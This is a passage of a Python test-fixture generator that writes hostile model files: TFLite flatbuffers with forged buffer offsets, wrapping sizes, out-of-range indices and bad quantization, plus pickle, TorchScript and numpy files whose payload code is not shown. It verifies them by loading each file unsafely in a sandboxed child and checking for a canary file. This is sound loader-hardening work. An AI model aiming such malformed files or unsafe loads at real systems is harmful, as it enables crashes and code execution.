    soffset: int | None = None  # a forged offset to the vtable


class FlatWriter:
    """Lays a flatbuffer out front to back: each table's vtable right before it, children after it."""

    def __init__(self) -> None:
        self.out = bytearray(8)

    def _pad(self, align: int, ahead: int = 0) -> None:
        self.out += bytes(-(len(self.out) + ahead) % align)

    def node(self, node: object) -> int:
        if isinstance(node, FbTable):
            return self.table(node)
        if isinstance(node, str):
            return self.vector(FbVector(node.encode()), terminator=b"\0")
        if isinstance(node, FbVector):
            return self.vector(node)
        raise TypeError(f"cannot encode {node!r}")

    def table(self, table: FbTable) -> int:
        layout: list[tuple[int, int, object]] = []
        size = 4
        for index, value in enumerate(table.fields):
            if value is None:
                continue
            width = struct.calcsize("<" + value.fmt) if isinstance(value, Scalar) else 4
            size += -size % width
            layout.append((index, size, value))
            size += width
        vsize = 4 + 2 * len(table.fields)
        self._pad(8, vsize)
        vtable = len(self.out)
        slots = [0] * len(table.fields)
        for index, at, _ in layout:
            slots[index] = at
        self.out += struct.pack(f"<HH{len(slots)}H", vsize, size, *slots)
        start = len(self.out)
        body = bytearray(size)
        struct.pack_into("<i", body, 0, start - vtable if table.soffset is None else table.soffset)
        for _, at, value in layout:
            if isinstance(value, Scalar):
                struct.pack_into("<" + value.fmt, body, at, value.value)
        self.out += body
        for _, at, value in layout:
            if not isinstance(value, Scalar):
                self._link(start + at, value)
        return start

    def vector(self, vec: FbVector, terminator: bytes = b"") -> int:
        if isinstance(vec.items, bytes):
            data, width = vec.items, 1
        elif vec.fmt:
            data, width = struct.pack(f"<{len(vec.items)}{vec.fmt}", *vec.items), struct.calcsize(vec.fmt)
        else:
            data, width = bytes(4 * len(vec.items)), 4
        self._pad(max(vec.align, width), 4)
        start = len(self.out)
        self.out += struct.pack("<I", len(vec.items) if vec.count is None else vec.count) + data + terminator
        if not isinstance(vec.items, bytes) and not vec.fmt:
            for i, item in enumerate(vec.items):
                self._link(start + 4 + 4 * i, item)
        return start

    def _link(self, at: int, node: object) -> None:
        struct.pack_into("<I", self.out, at, self.node(node) - at)

    def finish(self, root: FbTable) -> bytes:
        struct.pack_into("<I4s", self.out, 0, self.table(root), TFLITE_IDENTIFIER)
        return bytes(self.out)


def tfl_tensor(name: str, shape: object, buffer: int, type_code: int = TFLITE_FLOAT32, quant: FbTable | None = None) -> FbTable:
    """Tensor: shape, type, buffer, name, quantization (schema fields 0-4)."""
    dims = shape if isinstance(shape, FbVector) else FbVector(tuple(shape), "i")
    return FbTable((dims, Scalar("b", type_code), Scalar("I", buffer), name, quant))


def tfl_buffer(data: bytes | None = None, offset: int | None = None, size: int | None = None) -> FbTable:
    """Buffer: data [ubyte], or (since 2.14) an offset and size into the file for large models."""
    if offset is None:
        return FbTable((FbVector(data or b"", align=16),))
    return FbTable((None, Scalar("Q", offset), Scalar("Q", size or 0)))


def tflite_model(
    weight: FbTable | None = None,
    buffers: Sequence[FbTable] | None = None,
    opcode: int = FULLY_CONNECTED,
    tensors: FbVector | None = None,
    inputs: tuple[int, ...] = (0, 1, -1),
) -> bytes:
    """One FULLY_CONNECTED y = x W^T with W a float32 (2, 3) constant: Model fields version,
    operator_codes, subgraphs, description, buffers."""
    weight = weight or tfl_tensor("weight", SIZE, 1)
    all_tensors = tensors or FbVector((tfl_tensor("input", (1, SIZE[1]), 0), weight, tfl_tensor("output", (1, SIZE[0]), 0)))
    operator = FbTable((Scalar("I", 0), FbVector(inputs, "i"), FbVector((2,), "i")))
    subgraph = FbTable((all_tensors, FbVector((0,), "i"), FbVector((2,), "i"), FbVector((operator,)), "main"))
    opcode_table = FbTable((Scalar("b", opcode), None, Scalar("i", 1), Scalar("i", opcode)))
    buffers = buffers or (tfl_buffer(), tfl_buffer(WEIGHT_BYTES))
    model = FbTable((Scalar("I", 3), FbVector((opcode_table,)), FbVector((subgraph,)), "hostile", FbVector(tuple(buffers))))
    return FlatWriter().finish(model)


def int8_quant_of(scale: float, zero_point: int) -> FbTable:
    """QuantizationParameters with one scale and one zero point (fields 2 and 3; axis 0)."""
    return FbTable((None, None, FbVector((scale,), "f"), FbVector((zero_point,), "q"), None, None, Scalar("i", 0)))


def tflite_files() -> list[Hostile]:
    def tfl(name: str, attack: str, data: bytes) -> Hostile:
        return Hostile(f"tflite_{name}.tflite", "tflite", attack + NO_CANARY, False, data)

    int8_quant = FbTable((None, None, FbVector((0.5,), "f"), FbVector((0, 0, 0), "q"), None, None, Scalar("i", 0)))
    return [
        tfl(
            "buffer_offset_past_end",
            "the weight's buffer lies at offset 2**40 (+24) of a file of a few hundred bytes",
            tflite_model(buffers=(tfl_buffer(), tfl_buffer(offset=2**40, size=4 * NUMEL))),
        ),
        tfl(
            "buffer_size_past_end",
            "the weight's buffer starts in the file and claims 2**63 bytes",
            tflite_model(buffers=(tfl_buffer(), tfl_buffer(offset=8, size=2**63))),
        ),
        tfl(
            "buffer_offset_wraps_u64",
            "buffer offset 2**64 - 8 and size 32: the end wraps to 24 in u64 arithmetic",
            tflite_model(buffers=(tfl_buffer(), tfl_buffer(offset=2**64 - 8, size=32))),
        ),
        tfl("buffer_index_out_of_range", "the weight names buffer 7 of 2", tflite_model(weight=tfl_tensor("weight", SIZE, 7))),
        tfl(
            "shape_wraps_int64",
            f"the weight's shape {list(WRAP_SHAPE)} has 4 * 2**64 + 6 elements: 6 (24 bytes) in int64",
            tflite_model(weight=tfl_tensor("weight", WRAP_SHAPE, 1)),
        ),
        tfl("negative_dimension", "the weight's shape is [-2, -3]", tflite_model(weight=tfl_tensor("weight", (-2, -3), 1))),
        tfl(
            "vector_length_huge",
            "the subgraph's tensor vector declares 2**31 - 1 entries",
            tflite_model(tensors=FbVector((tfl_tensor("weight", SIZE, 1),), count=2**31 - 1)),
        ),
        tfl(
            "vector_length_negative",
            "the weight's shape vector declares 0xFFFFFFFF (-1 as int32) dimensions",
            tflite_model(weight=tfl_tensor("weight", FbVector(SIZE, "i", count=2**32 - 1), 1)),
        ),
        tfl(
            "string_length_huge",
            "the weight's name declares 2**32 - 16 bytes",
            tflite_model(
                weight=FbTable((FbVector(SIZE, "i"), Scalar("b", 0), Scalar("I", 1), FbVector(b"weight", count=2**32 - 16)))
            ),
        ),
        tfl(
            "vtable_past_end",
            "the weight's table points 2**30 bytes back to its vtable, before the file starts",
            tflite_model(weight=FbTable(tfl_tensor("weight", SIZE, 1).fields, soffset=2**30)),
        ),
        tfl(
            "conv_filter_1d",
            "a CONV_2D whose filter is a 1-d tensor: an OHWI permutation of one axis",
            tflite_model(weight=tfl_tensor("weight", (NUMEL,), 1), opcode=CONV_2D),
        ),
        tfl(
            "scale_nan",
            "an int8 (2, 3) weight whose quantization scale is NaN: it would dequantize to all NaN",
            tflite_model(
                weight=tfl_tensor("weight", SIZE, 1, TFLITE_INT8, int8_quant_of(float("nan"), 0)),
                buffers=(tfl_buffer(), tfl_buffer(bytes(range(NUMEL)))),
            ),
        ),
        tfl(
            "zero_point_out_of_range",
            "an int8 (2, 3) weight whose zero point is 1000, outside int8",
            tflite_model(
                weight=tfl_tensor("weight", SIZE, 1, TFLITE_INT8, int8_quant_of(0.5, 1000)),
                buffers=(tfl_buffer(), tfl_buffer(bytes(range(NUMEL)))),
            ),
        ),
        tfl(
            "operator_input_out_of_range",
            "the FULLY_CONNECTED names tensor 7 of 3 as its weights",
            tflite_model(inputs=(0, 7, -1)),
        ),
        tfl(
            "zero_points_mismatch",
            "an int8 (2, 3) weight with one scale and three zero points",
            tflite_model(
                weight=tfl_tensor("weight", SIZE, 1, TFLITE_INT8, int8_quant),
                buffers=(tfl_buffer(), tfl_buffer(bytes(range(NUMEL)))),
            ),
        ),
    ]


def has_h5py() -> bool:
    import importlib.util

    return importlib.util.find_spec("h5py") is not None


def corpus() -> list[Hostile]:
    base = torch_base()
    pickles = gadget_files(base) + pickle_in_storage_files(base) + container_files(base) + raw_files()
    others = (
        safetensors_files()
        + msgpack_files()
        + (h5_files() if has_h5py() else [])
        + neuralforecast_files(base)
        + nf_config_value_files()
        + torchscript_files()
        + numpy_files()
        + tflite_files()
    )
    return pickles + others


def write_corpus(files: Sequence[Hostile], out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    for item in files:
        if isinstance(item.data, bytes):
            (out / item.file).write_bytes(item.data)
            continue
        (out / item.file).mkdir(exist_ok=True)
        for name, data in item.data.items():
            (out / item.file / name).write_bytes(data)
    catalog = [{"file": f.file, "kind": f.kind, "attack": f.attack, "expect": f.expect} for f in files]
    (out / "catalog.json").write_text(json.dumps(catalog, indent=2) + "\n")


# Forged sizes make torch attempt multi-TiB allocations; the address-space cap fails them fast.
CHILD_PRELUDE = "import resource, sys\nresource.setrlimit(resource.RLIMIT_AS, (8 << 30, 8 << 30))\n"
TORCH_LOAD = "import torch\ntorch.load(sys.argv[1], weights_only=False)"
NF_LOAD = (
    "import pathlib, pickle, torch\n"
    "for p in sorted(pathlib.Path(sys.argv[1]).iterdir()):\n"
    "    try:\n"
    "        torch.load(p, weights_only=False) if p.suffix == '.ckpt' else pickle.load(open(p, 'rb'))\n"
    "    except Exception as exc:\n"
    "        print(p.name, type(exc).__name__, exc, file=sys.stderr)\n"
)
PICKLE_LOAD = "import pickle\nwith open(sys.argv[1], 'rb') as f:\n    pickle.load(f)"
# torch.jit.load runs the archive's code (__setstate__ on load, forward when called); then every pickle
# of the archive through pickle with stand-ins for __torch__ classes and empty storages, as a reader
# would that only widened pickle's globals for TorchScript.
TORCHSCRIPT_LOAD = (
    "import pickle, torch, zipfile\n"
    "try:\n"
    "    torch.jit.load(sys.argv[1])(torch.ones(1, 3))\n"
    "except Exception as exc:\n"
    "    print('torch.jit.load', type(exc).__name__, file=sys.stderr)\n"
    "class Stub:\n"
    "    def __init__(self, *args, **kwargs): pass\n"
    "    def __setstate__(self, state): pass\n"
    "class Widened(pickle.Unpickler):\n"
    "    def find_class(self, module, name):\n"
    "        return Stub if module.startswith('__torch__') else super().find_class(module, name)\n"
    "    def persistent_load(self, pid):\n"
    "        return pid[1](pid[4])\n"
    "with zipfile.ZipFile(sys.argv[1]) as zf:\n"
    "    for name in [n for n in zf.namelist() if n.endswith('.pkl')]:\n"
    "        try:\n"
    "            Widened(zf.open(name)).load()\n"
    "        except Exception as exc:\n"
    "            print(name, type(exc).__name__, exc, file=sys.stderr)\n"
)
NUMPY_LOAD = "import numpy as np\nwith np.load(sys.argv[1], allow_pickle=True) as d:\n    [d[k] for k in d.files]"
LOADERS = {
    "raw-pickle": PICKLE_LOAD,
    "zip": TORCH_LOAD,
    "legacy": TORCH_LOAD,
    "neuralforecast": NF_LOAD,
    "torchscript": TORCHSCRIPT_LOAD,
    "npy": "import numpy as np\nnp.load(sys.argv[1], allow_pickle=True)",
    "npz": NUMPY_LOAD,
    "numpy-pickle": PICKLE_LOAD,
}


def creates_canary(path: Path, kind: str) -> tuple[bool, str]:
    """Load ``path`` unsafely in a child process inside an empty temp cwd; report canary and outcome."""
    with tempfile.TemporaryDirectory() as cwd:
        proc = subprocess.run(
            [sys.executable, "-c", CHILD_PRELUDE + LOADERS[kind], str(path.resolve())],
            cwd=cwd,
            capture_output=True,
            text=True,
            timeout=300,
        )
        canary = Path(cwd, CANARY)
        deadline = time.monotonic() + 3  # popen-style payloads finish after the loader exits
        while not canary.exists() and time.monotonic() < deadline:
            time.sleep(0.1)
        lines = proc.stderr.strip().splitlines()
        outcome = "loaded" if proc.returncode == 0 else (lines[-1][:90] if lines else f"exit {proc.returncode}")
        return canary.exists(), outcome


def check_benign_round_trip(base: TorchBase) -> None:
    """The assembled containers must be real checkpoints, so hostile files differ only by their gadget."""
    expected = base_state()["weight"]
    for name, data in (
        ("zip", zip_checkpoint(base, dump(benign(ZIP)))),
        ("legacy", legacy_checkpoint(base, dump(benign(LEGACY)))),
    ):
        loaded = torch.load(io.BytesIO(data), weights_only=True)
        if not torch.equal(loaded["weight"], expected):
            raise SystemExit(f"benign {name} checkpoint does not round-trip")
        print(f"benign {name} container round-trips through torch.load(weights_only=True)")
    check_benign_other_containers(expected.numpy())


def check_benign_other_containers(expected: object) -> None:
    """The TorchScript, NumPy and TFLite containers, unedited, load in their own frameworks and hold the
    base tensor, so each hostile file differs from a real one only by its attack."""
    import numpy as np

    npy = npy_header("<f4", SIZE) + WEIGHT_BYTES
    object_npy = npy_objects(objects(weight_array()))
    script = torch.jit.load(io.BytesIO(ts_archive(dump(ts_module()))))
    loaded = {
        "TorchScript (torch.jit.load)": script.state_dict()["weight"].numpy(),
        "npy (np.load)": np.load(io.BytesIO(npy)),
        "npz (np.load)": np.load(io.BytesIO(stored_zip([("weight.npy", npy)])))["weight"],
        "numpy pickle (pickle.loads)": pickle.loads(dump({"weight": weight_array()}, 3))["weight"],
        "object-array npy (np.load, allow_pickle)": np.load(io.BytesIO(object_npy), allow_pickle=True)[()],
    }
    try:
        os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
        import tensorflow as tf
    except ImportError:
        print("TensorFlow not installed: the TFLite container is not checked")
    else:
        interpreter = tf.lite.Interpreter(model_content=tflite_model())
        interpreter.allocate_tensors()
        weight_detail = next(d for d in interpreter.get_tensor_details() if d["name"] == "weight")
        loaded["TFLite (tf.lite.Interpreter)"] = interpreter.get_tensor(weight_detail["index"])
    for name, value in loaded.items():
        if not np.array_equal(value, expected) or value.dtype != np.float32:
            raise SystemExit(f"benign {name} container does not round-trip")
        print(f"benign {name} container round-trips")


def yes_no(flag: bool) -> str:
    return "yes" if flag else "no "


def self_check(files: Sequence[Hostile], out: Path) -> int:
    """Prove every code-execution payload is live (and every inert one is not); nonzero on mismatch."""
    check_benign_round_trip(torch_base())
    unchecked = [f for f in files if f.kind not in LOADERS]
    files = [f for f in files if f.kind in LOADERS]
    with ThreadPoolExecutor(max_workers=os.cpu_count() or 1) as pool:
        results = list(pool.map(lambda f: creates_canary(out / f.file, f.kind), files))
    failures = 0
    for item in unchecked:
        print(f"n/a  no unsafe loader for {item.kind:14}  {item.file}")
    for item, (canary, outcome) in zip(files, results, strict=True):
        ok = canary == item.canary
        failures += not ok
        status = "ok  " if ok else "FAIL"
        print(f"{status} canary={yes_no(canary)} expected={yes_no(item.canary)}  {item.file:38} {outcome}")
    made = sum(canary for canary, _ in results)
    print(f"{made} of {len(files)} files created the canary; {sum(f.canary for f in files)} were expected to")
    return 1 if failures else 0


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help="output directory (default: fixtures/hostile)")
    parser.add_argument("--self-check", action="store_true", help="load every file unsafely in a child process and temp cwd")
    args = parser.parse_args()
    files = corpus()
    write_corpus(files, args.out)
    print(f"wrote {len(files)} hostile files and catalog.json to {args.out}")
    return self_check(files, args.out) if args.self_check else 0


if __name__ == "__main__":
    sys.exit(main())
